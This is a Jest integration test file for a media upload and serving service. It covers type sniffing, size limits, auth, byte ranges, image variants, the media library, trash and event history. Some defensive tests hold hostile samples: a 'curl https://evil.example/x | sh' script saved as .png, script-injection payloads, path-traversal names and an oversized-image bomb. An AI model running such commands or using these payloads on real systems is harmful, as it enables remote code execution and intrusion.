import request from 'supertest';
import sharp from 'sharp';
import {
  openSqlite,
  Projector,
  serviceDbFile,
  SqliteEventBus,
  SqliteEventStore,
  toMessage,
} from '@12yards/platform';
import { signedAs, startTestService, type TestService } from '@12yards/platform/testing';
import { handleOutsideEvent } from '../src/reactions/content-events';
import { referenceRows } from '../src/reference/projection';
import { createMediaService, DEFAULT_MAX_UPLOAD_BYTES, mediaService } from '../src/definition';
import { addToLibrary, admin, binary, editor, eventually, makeJpeg, makePng, pngClaiming } from './helpers';

// Image work on a shared 2-core machine can be slow.
jest.setTimeout(30_000);

type Upload = { url: string; filename: string; originalName: string; mimeType: string; size: number };

describe('media service HTTP API', () => {
  let svc: TestService<'objects'>;
  let png: Buffer;
  let jpeg: Buffer;
  beforeAll(async () => {
    png = await makePng();
    jpeg = await makeJpeg();
  });
  beforeEach(async () => (svc = await startTestService(mediaService)));
  afterEach(() => svc?.stop());

  const upload = (
    bytes: Buffer,
    filename: string,
    contentType = 'application/octet-stream',
    path = '/api/admin/upload',
  ) => request(svc.app).post(path).use(admin()).attach('file', bytes, { filename, contentType });

  const fetchBytes = (url: string, headers: Record<string, string> = {}) =>
    request(svc.app).get(url).set(headers).buffer(true).parse(binary);

  describe('uploading', () => {
    it('When an admin uploads a PNG, then 201 answers its url and the file comes back byte for byte', async () => {
      const res = await upload(png, 'crest.png', 'image/png').expect(201);
      const body = res.body as Upload;
      expect(body).toEqual({
        url: `/media/${body.filename}`,
        filename: expect.stringMatching(/^[0-9a-f-]{36}\.png$/),
        originalName: 'crest.png',
        mimeType: 'image/png',
        size: png.length,
      });
      const file = await fetchBytes(body.url).expect(200);
      expect(Buffer.compare(file.body as Buffer, png)).toBe(0);
      expect(file.headers['content-type']).toBe('image/png');
      expect(file.headers['content-length']).toBe(String(png.length));
    });

    it('When an editor uploads a JPEG through /api/upload, then it round-trips byte for byte as image/jpeg', async () => {
      const res = await request(svc.app)
        .post('/api/upload')
        .use(editor())
        .attach('file', jpeg, { filename: 'match.jpg', contentType: 'image/jpeg' })
        .expect(201);
      expect(res.body).toMatchObject({
        mimeType: 'image/jpeg',
        size: jpeg.length,
        filename: expect.stringMatching(/\.jpg$/),
      });
      const file = await fetchBytes(res.body.url).expect(200);
      expect(Buffer.compare(file.body as Buffer, jpeg)).toBe(0);
      expect(file.headers['content-type']).toBe('image/jpeg');
    });

    it('When the declared name and type lie, then the content decides the type and the stored name', async () => {
      const res = await upload(png, 'holiday.jpg', 'image/jpeg').expect(201);
      expect(res.body).toMatchObject({
        mimeType: 'image/png',
        originalName: 'holiday.jpg',
        filename: expect.stringMatching(/\.png$/),
      });
    });

    it('When a script is saved as .png, then 415 and nothing is stored', async () => {
      const before = await svc.ctx.infra.eventStore.lastPosition();
      const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
      const res = await upload(script, 'logo.png', 'image/png').expect(415);
      expect(res.body.error.code).toBe('unsupported_media_type');
      const html = Buffer.from('<html><script>alert(1)</script></html>');
      await upload(html, 'logo.png', 'image/png').expect(415);
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
      await upload(svg, 'logo.svg', 'image/svg+xml').expect(415);
      expect(await svc.ctx.infra.eventStore.lastPosition()).toBe(before);
    });

    it('When a file starts like a PNG but is not a readable image, then 415', async () => {
      const fake = Buffer.concat([png.subarray(0, 64), Buffer.alloc(500, 7)]);
      await upload(fake, 'broken.png', 'image/png').expect(415);
    });

    it('When a small PNG claims 20000 x 20000 pixels, then 422 before it is decoded and nothing is stored', async () => {
      const res = await upload(pngClaiming(20_000, 20_000), 'bomb.png', 'image/png').expect(422);
      expect(res.body.error.code).toBe('image_too_large');
      expect(await svc.ctx.infra.eventStore.lastPosition()).toBe(0);
    });

    it('When GIF, WebP and AVIF images are uploaded, then each is accepted with its sniffed type', async () => {
      const base = sharp(await makePng(64, 48));
      for (const [bytes, mime] of [
        [await base.clone().gif().toBuffer(), 'image/gif'],
        [await base.clone().webp().toBuffer(), 'image/webp'],
        [await base.clone().avif().toBuffer(), 'image/avif'],
      ] as const) {
        const res = await upload(bytes, 'picture', 'application/octet-stream').expect(201);
        expect(res.body.mimeType).toBe(mime);
      }
    });

    it('When the file is larger than the default 10 MB limit, then 413', async () => {
      const big = Buffer.concat([png, Buffer.alloc(DEFAULT_MAX_UPLOAD_BYTES + 1 - png.length)]);
      const res = await upload(big, 'huge.png', 'image/png').expect(413);
      expect(res.body.error.code).toBe('payload_too_large');
      expect(res.body.error.message).toBe('The file is larger than 10 MB');
    });

    it('When MEDIA_MAX_UPLOAD_BYTES lowers the limit, then a file above it is 413 and one below it is stored', async () => {
      process.env.MEDIA_MAX_UPLOAD_BYTES = String(png.length);
      try {
        svc = await svc.restart(createMediaService());
      } finally {
        delete process.env.MEDIA_MAX_UPLOAD_BYTES;
      }
      await upload(png, 'fits.png', 'image/png').expect(201);
      await upload(Buffer.concat([png, Buffer.alloc(1)]), 'too-big.png', 'image/png').expect(413);
    });

    it('When the identity is missing or forged, then both upload paths answer 401 and store nothing', async () => {
      for (const path of ['/api/upload', '/api/admin/upload']) {
        const res = await request(svc.app)
          .post(path)
          .attach('file', png, { filename: 'a.png', contentType: 'image/png' })
          .expect(401);
        expect(res.body.error.code).toBe('unauthorized');
      }
      const forged = signedAs(
        { username: 'mallory', role: 'admin' },
        'not-the-shared-secret-0123456789abcdef',
      );
      await request(svc.app)
        .post('/api/upload')
        .use(forged)
        .attach('file', png, { filename: 'a.png', contentType: 'image/png' })
        .expect(401);
      expect(await svc.ctx.infra.eventStore.lastPosition()).toBe(0);
    });

    it('When no file or a wrongly named field is sent, then 400', async () => {
      const none = await request(svc.app)
        .post('/api/admin/upload')
        .use(admin())
        .field('title', 'x')
        .expect(400);
      expect(none.body.error.message).toBe("No file was sent (multipart field 'file')");
      await request(svc.app).post('/api/admin/upload').use(admin()).attach('image', png, 'a.png').expect(400);
      await request(svc.app).post('/api/admin/upload').use(admin()).send({ file: 'x' }).expect(400);
    });

    it("When the client's filename is a path, then only its last part is kept as a label and the key is generated", async () => {
      const res = await upload(png, '../../etc/Vereinswappen Köln.png', 'image/png').expect(201);
      expect(res.body.originalName).toBe('Vereinswappen Köln.png');
      expect(res.body.filename).not.toContain('Köln');
      expect(await svc.ctx.infra.objects.stat(`media/${res.body.filename}`)).not.toBeNull();
    });

    it('When an upload succeeds, then MediaUploaded and its library entry are in the event history with the uploader', async () => {
      const res = await upload(png, 'crest.png', 'image/png').expect(201);
      const events = await svc.ctx.infra.eventStore.readAll(0);
      const id = res.body.filename.replace('.png', '');
      expect(events).toEqual([
        expect.objectContaining({
          type: 'MediaUploaded',
          streamId: `upload-${id}`,
          data: expect.objectContaining({
            filename: res.body.filename,
            originalName: 'crest.png',
            size: png.length,
            uploadedBy: 'ops',
          }),
          meta: expect.objectContaining({ actor: 'ops' }),
        }),
        expect.objectContaining({
          type: 'MediaFileAdded',
          streamId: `media-file-${id}`,
          data: expect.objectContaining({
            id,
            uploadId: id,
            url: res.body.url,
            altText: null,
            uploadedBy: 'ops',
          }),
          meta: expect.objectContaining({ actor: 'ops' }),
        }),
      ]);
    });
  });

  describe('serving', () => {
    let file: Upload;
    beforeEach(async () => {
      file = (await upload(png, 'crest.png', 'image/png').expect(201)).body;
    });

    it('When a file is fetched, then it carries a strong ETag, immutable caching, ranges and nosniff', async () => {
      const res = await fetchBytes(file.url).expect(200);
      expect(res.headers.etag).toMatch(/^"[^"]+"$/);
      expect(res.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(res.headers['accept-ranges']).toBe('bytes');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    });

    it('When If-None-Match names the current ETag, then 304 without a body', async () => {
      const { headers } = await fetchBytes(file.url).expect(200);
      const res = await fetchBytes(file.url, { 'If-None-Match': headers.etag as string }).expect(304);
      expect((res.body as Buffer).length).toBe(0);
      expect(res.headers.etag).toBe(headers.etag);
      await fetchBytes(file.url, { 'If-None-Match': '"something-else"' }).expect(200);
    });

    it('When a byte range is asked for, then 206 answers exactly those bytes', async () => {
      const res = await fetchBytes(file.url, { Range: 'bytes=100-199' }).expect(206);
      expect(res.headers['content-range']).toBe(`bytes 100-199/${png.length}`);
      expect(res.headers['content-length']).toBe('100');
      expect(Buffer.compare(res.body as Buffer, png.subarray(100, 200))).toBe(0);
      const tail = await fetchBytes(file.url, { Range: 'bytes=-10' }).expect(206);
      expect(Buffer.compare(tail.body as Buffer, png.subarray(png.length - 10))).toBe(0);
    });

    it('When the range lies beyond the end, then 416 with the size in Content-Range', async () => {
      const res = await fetchBytes(file.url, { Range: `bytes=${png.length}-` }).expect(416);
      expect(res.headers['content-range']).toBe(`bytes */${png.length}`);
    });

    it('When If-Range names an old ETag, then the whole file is sent', async () => {
      const res = await fetchBytes(file.url, { Range: 'bytes=0-9', 'If-Range': '"old"' }).expect(200);
      expect((res.body as Buffer).length).toBe(png.length);
    });

    it('When HEAD is asked, then the headers come without the bytes', async () => {
      const res = await request(svc.app).head(file.url).expect(200);
      expect(res.headers['content-length']).toBe(String(png.length));
      expect(res.headers['content-type']).toBe('image/png');
    });

    it('When the file is unknown or the path tries to escape, then 404', async () => {
      await request(svc.app).get('/media/00000000-0000-4000-8000-000000000000.png').expect(404);
      await request(svc.app).get(file.url.replace('.png', '.jpg')).expect(404);
      await request(svc.app).get('/media/..%2F..%2Fevents.sqlite').expect(404);
      await request(svc.app).get('/media/contracts/template.docx').expect(404);
      const res = await request(svc.app).get('/media/nothing.png').expect(404);
      expect(res.body.error.code).toBe('not_found');
    });

    it('When ?w=480 and ?w=1600 are asked, then WebP variants come back, smaller than the original and never enlarged', async () => {
      const small = await fetchBytes(`${file.url}?w=480`).expect(200);
      const large = await fetchBytes(`${file.url}?w=1600`).expect(200);
      for (const res of [small, large]) {
        expect(res.headers['content-type']).toBe('image/webp');
        expect(res.headers['cache-control']).toBe('public, max-age=31536000, immutable');
        expect((res.body as Buffer).length).toBeLessThan(png.length);
      }
      expect(await sharp(small.body as Buffer).metadata()).toMatchObject({
        format: 'webp',
        width: 480,
        height: 360,
      });
      // The original is 800 px wide: the 1600 variant keeps that width.
      expect(await sharp(large.body as Buffer).metadata()).toMatchObject({
        format: 'webp',
        width: 800,
        height: 600,
      });
      const jpegUpload = (await upload(jpeg, 'wide.jpg').expect(201)).body as Upload;
      const wide = await fetchBytes(`${jpegUpload.url}?w=1600`).expect(200);
      expect(await sharp(wide.body as Buffer).metadata()).toMatchObject({ format: 'webp', width: 1600 });
      expect((wide.body as Buffer).length).toBeLessThan(jpeg.length);
    });

    it('When a width other than 480 or 1600 is asked, then 400', async () => {
      const res = await request(svc.app).get(`${file.url}?w=999`).expect(400);
      expect(res.body.error.message).toBe('w must be one of 480, 1600');
    });
  });

  describe('media library', () => {
    const entry = (u: Upload, altText = 'Club crest') => ({
      filename: u.filename,
      originalName: u.originalName,
      mimeType: u.mimeType,
      size: u.size,
      url: u.url,
      altText,
    });

    const library = async () =>
      (await request(svc.app).get('/api/admin/media').use(admin()).expect(200)).body;
    const uploadIdOf = (u: Upload) => u.filename.split('.')[0]!;

    it('When images are uploaded, then GET /api/admin/media lists them newest first without an add', async () => {
      const a = (await upload(png, 'a.png').expect(201)).body as Upload;
      const b = (
        await request(svc.app)
          .post('/api/upload')
          .use(editor())
          .attach('file', jpeg, { filename: 'b.jpg', contentType: 'image/jpeg' })
          .expect(201)
      ).body as Upload;
      const list = await request(svc.app).get('/api/admin/media').use(admin()).expect(200);
      expect(list.headers['cache-control']).toBe('no-store');
      expect(list.body).toEqual([
        {
          id: uploadIdOf(b),
          ...entry(b),
          altText: null,
          uploadedBy: 'writer',
          createdAt: expect.any(String),
          version: 1,
        },
        {
          id: uploadIdOf(a),
          ...entry(a),
          altText: null,
          uploadedBy: 'ops',
          createdAt: expect.any(String),
          version: 1,
        },
      ]);
    });

    it('When an uploaded file is added with an alt text, then its entry is described, not added twice', async () => {
      const a = (await upload(png, 'a.png').expect(201)).body as Upload;
      const b = (await upload(jpeg, 'b.jpg').expect(201)).body as Upload;
      const described = await request(svc.app)
        .post('/api/admin/media')
        .use(editor())
        .send(entry(a))
        .expect(201);
      expect(described.body).toEqual({
        id: uploadIdOf(a),
        ...entry(a),
        uploadedBy: 'ops',
        createdAt: expect.any(String),
        version: 2,
      });
      expect(described.headers.etag).toBe('"2"');
      expect(described.headers['cache-control']).toBe('no-store');
      // The same alt text again changes nothing; no alt text clears it.
      await request(svc.app).post('/api/admin/media').use(admin()).send(entry(a)).expect(201);
      await request(svc.app).post('/api/admin/media').use(admin()).send(entry(b, '')).expect(201);
      const list = await library();
      expect(list.map((m: { originalName: string }) => m.originalName)).toEqual(['b.jpg', 'a.png']);
      expect(list[1]).toMatchObject({ altText: 'Club crest', version: 2 });
      expect(list[0]).toMatchObject({ version: 1 });
      expect(list[0].altText ?? null).toBeNull();
      const types = (await svc.ctx.infra.eventStore.readAll(0)).map((e) => e.type);
      expect(types.filter((t) => t === 'MediaFileDescribed')).toHaveLength(1);
    });

    it('When the library is searched with q, then only the files whose name or alt text holds it are listed', async () => {
      const add = (originalName: string, altText?: string) =>
        request(svc.app)
          .post('/api/admin/media')
          .use(admin())
          .send({
            filename: originalName,
            originalName,
            mimeType: 'image/jpeg',
            size: 1,
            url: `https://cdn.example.com/${originalName}`,
            altText,
          })
          .expect(201);
      await add('home-kit.jpg');
      await add('away.jpg', 'Away KIT, blue');
      await add('crest.png', 'Club crest');
      const names = async (q: string) =>
        (
          await request(svc.app)
            .get(`/api/admin/media?q=${encodeURIComponent(q)}`)
            .use(admin())
            .expect(200)
        ).body.map((m: { originalName: string }) => m.originalName);
      expect(await names('kit')).toEqual(['away.jpg', 'home-kit.jpg']);
      expect(await names('crest')).toEqual(['crest.png']);
      expect(await names('  ')).toHaveLength(3);
      expect(await names('nothing like it')).toEqual([]);
    });

    it('When an entry is deleted with an If-Match that is not its version, then 412 and it stays; with its version, 204', async () => {
      const created = await request(svc.app)
        .post('/api/admin/media')
        .use(admin())
        .send({
          filename: 'k.jpg',
          originalName: 'k.jpg',
          mimeType: 'image/jpeg',
          size: 1,
          url: 'https://cdn.example.com/k.jpg',
        })
        .expect(201);
      expect(created.headers.etag).toBe('"1"');
      const path = `/api/admin/media/${created.body.id}`;
      const stale = await request(svc.app).delete(path).set('If-Match', '"2"').use(admin()).expect(412);
      expect(stale.body.error.code).toBe('precondition_failed');
      const [listed] = (await request(svc.app).get('/api/admin/media').use(admin()).expect(200)).body;
      expect(listed).toMatchObject({ id: created.body.id, version: 1 });
      await request(svc.app).delete(path).set('If-Match', `"${listed.version}"`).use(admin()).expect(204);
      expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toEqual([]);
    });

    it('When an https address is added, then it is listed without an upload behind it', async () => {
      const res = await request(svc.app)
        .post('/api/admin/media')
        .use(admin())
        .send({
          filename: 'kit.jpg',
          originalName: 'kit.jpg',
          mimeType: 'image/jpeg',
          size: '2048',
          url: 'https://cdn.example.com/kit.jpg',
        })
        .expect(201);
      expect(res.body).toMatchObject({ size: 2048, url: 'https://cdn.example.com/kit.jpg' });
    });

    it.each([
      ['a size that is not whole', { size: 12.5 }, 'size'],
      ['a size that is not a number', { size: 'big' }, 'size'],
      ['an http url', { url: 'http://cdn.example.com/kit.jpg' }, 'url'],
      ['a javascript url', { url: 'javascript:alert(1)' }, 'url'],
      ['a path outside /media', { url: '/api/admin/media' }, 'url'],
      ['no filename', { filename: '' }, 'filename'],
    ])(
      'When the media file has %s, then 400 names the field and nothing is added',
      async (_what, patch, field) => {
        const body = {
          filename: 'kit.jpg',
          originalName: 'kit.jpg',
          mimeType: 'image/jpeg',
          size: 10,
          url: 'https://cdn.example.com/k.jpg',
          ...patch,
        };
        const res = await request(svc.app).post('/api/admin/media').use(admin()).send(body).expect(400);
        expect(res.body.error.code).toBe('validation_failed');
        expect(res.body.error.details).toEqual([expect.objectContaining({ path: field })]);
        expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toEqual([]);
      },
    );

    it('When the /media url names no upload, then 422', async () => {
      const res = await request(svc.app)
        .post('/api/admin/media')
        .use(admin())
        .send({
          filename: 'x.png',
          originalName: 'x.png',
          mimeType: 'image/png',
          size: 1,
          url: '/media/00000000-0000-4000-8000-000000000000.png',
        })
        .expect(422);
      expect(res.body.error.message).toBe('No uploaded file has that URL');
    });

    it('When the identity is missing, then the library routes answer 401', async () => {
      await request(svc.app).get('/api/admin/media').expect(401);
      await request(svc.app).post('/api/admin/media').send({}).expect(401);
      await request(svc.app).delete('/api/admin/media/x').expect(401);
    });

    it('When an admin deletes a media file, then it goes to the trash and is not served; purged, its object and variants are removed', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const added = await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u)).expect(201);
      const id = u.filename.replace('.png', '');
      const keys = [`media/${u.filename}`, `media/${id}-w480.webp`, `media/${id}-w1600.webp`];
      for (const key of keys) expect(await svc.ctx.infra.objects.stat(key)).not.toBeNull();

      await request(svc.app).delete(`/api/admin/media/${added.body.id}`).use(admin()).expect(204);
      expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toEqual([]);
      const trash = await request(svc.app).get('/internal/trash').use(editor()).expect(200);
      expect(trash.body).toEqual([
        expect.objectContaining({
          entityType: 'media',
          id: added.body.id,
          label: 'crest.png',
          trashedBy: 'ops',
        }),
      ]);
      await request(svc.app).get(u.url).expect(404);
      await request(svc.app).get(`${u.url}?w=480`).expect(404);
      for (const key of keys) expect(await svc.ctx.infra.objects.stat(key)).not.toBeNull();
      await request(svc.app).delete(`/api/admin/media/${added.body.id}`).use(admin()).expect(404);

      await request(svc.app).delete(`/api/admin/trash/media/${added.body.id}`).use(admin()).expect(204);
      for (const key of keys) expect(await svc.ctx.infra.objects.stat(key)).toBeNull();
      expect((await request(svc.app).get('/internal/trash').use(admin())).body).toEqual([]);
      const types = (await svc.ctx.infra.eventStore.readAll(0)).map((e) => e.type);
      expect(types).toEqual([
        'MediaUploaded',
        'MediaFileAdded',
        'MediaFileDescribed',
        'MediaFileTrashed',
        'MediaFileDeleted',
        'MediaUploadRemoved',
      ]);
    });

    it('When a trashed media file is restored, then it is listed and served again exactly as it was', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const added = (await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u)).expect(201))
        .body;
      await request(svc.app).delete(`/api/admin/media/${added.id}`).use(admin()).expect(204);
      await request(svc.app).get(u.url).expect(404);
      await request(svc.app).post(`/api/admin/trash/media/${added.id}/restore`).use(editor()).expect(204);
      const list = (await request(svc.app).get('/api/admin/media').use(admin()).expect(200)).body;
      expect(list).toEqual([{ ...added, version: 4 }]);
      const file = await fetchBytes(u.url).expect(200);
      expect(Buffer.compare(file.body as Buffer, png)).toBe(0);
    });

    it('When an editor tries to purge or empty the trash, then 403; the admin empties it and the files go', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const added = (await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u)).expect(201))
        .body;
      await request(svc.app).delete(`/api/admin/media/${added.id}`).use(admin()).expect(204);
      const refused = await request(svc.app).delete('/internal/trash').use(editor()).expect(403);
      expect(refused.body.error.code).toBe('forbidden');
      await request(svc.app).delete(`/api/admin/trash/media/${added.id}`).use(editor()).expect(403);
      expect(await svc.ctx.infra.objects.stat(`media/${u.filename}`)).not.toBeNull();
      const emptied = await request(svc.app).delete('/internal/trash').use(admin()).expect(200);
      expect(emptied.body).toEqual({ purged: 1 });
      expect(await svc.ctx.infra.objects.stat(`media/${u.filename}`)).toBeNull();
    });

    it('When two entries point at one upload, then deleting the first keeps the file and deleting the second removes it', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const [first] = await library();
      // With its entry in the trash, adding the upload again makes a second entry; the first comes back.
      await request(svc.app).delete(`/api/admin/media/${first.id}`).use(admin()).expect(204);
      const second = (
        await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u, 'two')).expect(201)
      ).body;
      expect(second.id).not.toBe(first.id);
      await request(svc.app).post(`/api/admin/trash/media/${first.id}/restore`).use(admin()).expect(204);
      expect(await library()).toHaveLength(2);
      await request(svc.app).delete(`/api/admin/media/${first.id}`).use(admin()).expect(204);
      await fetchBytes(u.url).expect(200);
      await request(svc.app).delete(`/api/admin/media/${second.id}`).use(admin()).expect(204);
      await request(svc.app).get(u.url).expect(404);
    });

    it('When an editor deletes a media file, then 403 and it stays; an unknown id is 404', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const added = (await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u)).expect(201))
        .body;
      const res = await request(svc.app).delete(`/api/admin/media/${added.id}`).use(editor()).expect(403);
      expect(res.body.error.code).toBe('forbidden');
      expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toHaveLength(1);
      await fetchBytes(u.url).expect(200);
      await request(svc.app).delete('/api/admin/media/nope').use(admin()).expect(404);
    });

    it('When the read models are rebuilt from the events, then the library and the served files are unchanged', async () => {
      const a = (await upload(png, 'a.png').expect(201)).body as Upload;
      const b = (await upload(jpeg, 'b.jpg').expect(201)).body as Upload;
      const ea = (await request(svc.app).post('/api/admin/media').use(admin()).send(entry(a)).expect(201))
        .body;
      await request(svc.app).post('/api/admin/media').use(admin()).send(entry(b)).expect(201);
      await request(svc.app).delete(`/api/admin/media/${ea.id}`).use(admin()).expect(204);
      const live = (await request(svc.app).get('/api/admin/media').use(admin())).body;
      const { infra } = svc.ctx;
      await new Projector(infra.eventStore, infra.readModels, mediaService.projections).rebuild();
      expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toEqual(live);
      await request(svc.app).get(a.url).expect(404);
      const served = await fetchBytes(`${b.url}?w=480`).expect(200);
      expect(served.headers['content-type']).toBe('image/webp');
    });

    it('When the service restarts on the same data directory, then files and library survive', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      await request(svc.app).post('/api/admin/media').use(admin()).send(entry(u)).expect(201);
      svc = await svc.restart();
      expect((await request(svc.app).get('/api/admin/media').use(admin())).body).toHaveLength(1);
      const file = await fetchBytes(u.url).expect(200);
      expect(Buffer.compare(file.body as Buffer, png)).toBe(0);
    });
  });

  describe('files shown by other services', () => {
    // In embedded mode the content service's topic is its SQLite event store: appending there is publishing.
    /** As the content service publishes: an internal event appended, the integration event of it on its topic. */
    const publish = async (streamId: string, type: string, data: Record<string, unknown>) => {
      const db = openSqlite(serviceDbFile(svc.env.DATA_DIR, 'content'));
      try {
        const stored = (await new SqliteEventStore(db).append(streamId, 'any', [{ type, data }])).events[0]!;
        await new SqliteEventBus({ topics: {}, db }).publish('content', [
          toMessage(stored, { type, version: 1, data }),
        ]);
        return stored;
      } finally {
        db.close();
      }
    };
    const refsTo = async (uploadId: string) => referenceRows(svc.ctx.infra.readModels).count({ uploadId });
    /** Adds the upload to the library (its own entry, or a new one once that is in the trash) and deletes that entry again. */
    const addAndDelete = async (u: Upload) => {
      const added = await addToLibrary(svc.app, u, null);
      await request(svc.app).delete(`/api/admin/media/${added.id}`).use(admin()).expect(204);
    };

    it('When a news article shows an upload, then deleting its library entry keeps the file until nothing shows it', async () => {
      const u = (await upload(png, 'crest.png').expect(201)).body as Upload;
      const uploadId = u.filename.replace('.png', '');
      await publish('news-1', 'NewsArticleChanged', { articleId: '1', imageUrl: u.url });
      await eventually(async () => expect(await refsTo(uploadId)).toBe(1));

      await addAndDelete(u);
      await fetchBytes(u.url).expect(200); // the article still shows it

      await publish('news-1', 'NewsArticleChanged', {
        articleId: '1',
        imageUrl: 'https://cdn.example.com/x.jpg',
      });
      await eventually(async () => expect(await refsTo(uploadId)).toBe(0));
      await addAndDelete(u);
      await request(svc.app).get(u.url).expect(404);
    });

    it('When a screenshot showing an upload is removed, then its reference goes, once, even if the event comes twice', async () => {
      const u = (await upload(png, 'shot.png').expect(201)).body as Upload;
      const uploadId = u.filename.replace('.png', '');
      const data = { itemId: '7', imageUrl: `${u.url}?w=480` };
      const added = await publish('gallery-7', 'GalleryItemChanged', data);
      await eventually(async () => expect(await refsTo(uploadId)).toBe(1));
      await publish('gallery-7', 'GalleryItemRemoved', { itemId: '7' });
      await eventually(async () => expect(await refsTo(uploadId)).toBe(0));
      // A late redelivery of the first event (past the inbox) appends nothing: its event id is derived from it.
      await handleOutsideEvent(svc.ctx, { type: 'GalleryItemChanged', version: 1, data }, added, 'content');
      expect(await refsTo(uploadId)).toBe(0);
      const changes = (await svc.ctx.infra.eventStore.readAll(0)).filter(
        (e) => e.type === 'MediaReferenceChanged',
      );
      expect(changes.map((e) => e.data)).toEqual([
        expect.objectContaining({ source: 'content:gallery-7', uploadId, previousUploadId: null }),
        expect.objectContaining({ source: 'content:gallery-7', uploadId: null, previousUploadId: uploadId }),
      ]);
    });
  });

  it('When asked for health and readiness, then both answer, checking the object store but no job queue', async () => {
    await request(svc.app).get('/healthz').expect(200, { status: 'ok' });
    const ready = await request(svc.app).get('/readyz').expect(200);
    expect(Object.keys(ready.body.checks).sort()).toEqual([
      'bus',
      'eventStore',
      'objects',
      'readModels',
      'storage',
    ]);
  });
});
